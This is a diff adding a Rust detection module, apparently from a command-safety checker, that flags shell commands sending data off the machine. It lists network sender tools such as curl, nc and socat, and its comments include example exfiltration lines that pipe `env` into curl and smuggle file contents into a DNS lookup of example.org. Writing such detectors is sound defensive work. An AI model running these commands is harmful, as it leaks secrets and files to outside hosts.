@@ -1,0 +1,185 @@
+//! Data that leaves the machine.
+
+use super::report::Report;
+use super::transfer::{is_remote, sends_stdin};
+use super::{Effect, Verb, effects as effects_of, operands, rules};
+use crate::command::{Invocation, Script, Stdin, UNKNOWN};
+use crate::paths::{Area, Follow, Machine, Scene, Secret};
+use crate::redact;
+
+/// Adds what is wrong with what a command sends away.
+pub(super) fn check(
+    command: &Invocation,
+    script: &Script,
+    effects: &[Effect],
+    scene: &Scene<'_>,
+    report: &mut Report<'_>,
+) {
+    dns(command, script, report);
+    if scene.machine() != Machine::Local || stays_here(command) {
+        return;
+    }
+    let uploads = effects.iter().filter(|effect| effect.verb == Verb::Upload);
+    if uploads
+        .into_iter()
+        .any(|effect| is_worth_asking(effect, scene))
+    {
+        report.command(&rules::UPLOAD);
+    }
+    if sends_stdin(command) {
+        piped(command, script, scene, report);
+    }
+    if is_sender(&command.program) && sends_what_it_was_given(command, script) {
+        report.command(&rules::SECRET_UPLOAD);
+    }
+}
+
+/// Temporary files and output are made to be sent, more often than not.
+fn is_worth_asking(effect: &Effect, scene: &Scene<'_>) -> bool {
+    let spots = scene.spots(&effect.target, Follow::Links);
+    spots
+        .iter()
+        .any(|spot| !matches!(spot.area, Area::Temp | Area::Build | Area::Stream))
+}
+
+fn piped(command: &Invocation, script: &Script, scene: &Scene<'_>, report: &mut Report<'_>) {
+    if let Stdin::Text(text) = &command.stdin
+        && redact::find(text)
+            .iter()
+            .any(|found| found.kind.is_unmistakable())
+    {
+        report.command(&rules::SECRET_UPLOAD);
+    }
+    for source in operands::upstream(command, script) {
+        if is_environment(source) {
+            report.command(&rules::SECRET_UPLOAD);
+        }
+        let is_project = source.program == "git"
+            && source
+                .words()
+                .any(|word| matches!(word, "archive" | "bundle" | "diff" | "log" | "show"));
+        for effect in effects_of(source, scene) {
+            if !matches!(effect.verb, Verb::Read | Verb::Feed | Verb::CopyFrom) {
+                continue;
+            }
+            for spot in scene.spots(&effect.target, Follow::Links) {
+                if spot.secret.is_some_and(Secret::is_hidden)
+                    || matches!(spot.area, Area::Home | Area::Root)
+                {
+                    report.command(&rules::SECRET_UPLOAD);
+                } else if !matches!(spot.area, Area::Temp | Area::Build | Area::Stream)
+                    && command.program != "ssh"
+                {
+                    report.command(&rules::UPLOAD);
+                }
+            }
+        }
+        if is_project {
+            report.command(&rules::UPLOAD);
+        }
+    }
+}
+
+fn is_environment(command: &Invocation) -> bool {
+    match command.program.as_str() {
+        "env" | "printenv" | "history" => true,
+        "set" => command.args.is_empty(),
+        "export" | "declare" => command
+            .words()
+            .all(|word| matches!(word, "-p" | "-x" | "-xp" | "-px")),
+        _ => false,
+    }
+}
+
+fn is_sender(program: &str) -> bool {
+    matches!(
+        program,
+        "curl"
+            | "wget"
+            | "http"
+            | "https"
+            | "xh"
+            | "xhs"
+            | "nc"
+            | "ncat"
+            | "netcat"
+            | "socat"
+            | "telnet"
+            | "ssh"
+    )
+}
+
+/// `curl -d "$(env)" …`: the environment goes into an argument.
+fn sends_what_it_was_given(command: &Invocation, script: &Script) -> bool {
+    command
+        .args
+        .iter()
+        .any(|word| operands::inside(word, script).any(is_environment))
+}
+
+/// Whether every address of the command is this machine.
+fn stays_here(command: &Invocation) -> bool {
+    let mut hosts = command
+        .words()
+        .filter(|word| !word.starts_with('-'))
+        .filter_map(host_of);
+    let Some(first) = hosts.next() else {
+        return false;
+    };
+    is_loopback(first) && hosts.all(is_loopback)
+}
+
+/// The host in a word that has one for certain: an address, or `host:path`.
+fn host_of(word: &str) -> Option<&str> {
+    let rest = match word.split_once("://") {
+        Some((_, rest)) => rest,
+        None if is_loopback(word) => return Some(word),
+        None if is_remote(word) || word.contains(':') => word,
+        None => return None,
+    };
+    let host = rest.split(['/', '?', '#']).next()?;
+    let host = host.rsplit('@').next()?;
+    if let Some(inner) = host.strip_prefix('[') {
+        return inner.split(']').next();
+    }
+    host.split(':').next()
+}
+
+fn is_loopback(host: &str) -> bool {
+    let name = host.split(':').next().unwrap_or(host);
+    matches!(name, "localhost" | "0.0.0.0" | "host.docker.internal")
+        || name.starts_with("127.")
+        || name.ends_with(".localhost")
+        || host == "::1"
+}
+
+/// Looking up a name tells its name server: `dig $(cat x).example.org`.
+fn dns(command: &Invocation, script: &Script, report: &mut Report<'_>) {
+    if !matches!(
+        command.program.as_str(),
+        "dig" | "nslookup" | "host" | "drill" | "ping" | "resolvectl" | "getent"
+    ) {
+        return;
+    }
+    let sends = |word: &crate::command::Word| {
+        let text = word.text.as_str();
+        let before_dot = text
+            .find('.')
+            .is_some_and(|dot| text[..dot].contains(UNKNOWN));
+        let after = text
+            .trim_end_matches('.')
+            .rsplit(UNKNOWN)
+            .next()
+            .unwrap_or("");
+        // A name that is unknown whole is most likely a host; a name made of parts carries something.
+        (before_dot && after.contains('.')) && text != "\u{FFFC}" && is_made(word, script)
+    };
+    if command.args.iter().any(sends) {
+        report.command(&rules::DNS);
+    }
+}
+
+/// Whether a command, and not just a variable, makes the text; where that cannot be told, it may.
+fn is_made(word: &crate::command::Word, script: &Script) -> bool {
+    word.span == crate::command::Span::default() || operands::inside(word, script).next().is_some()
+}
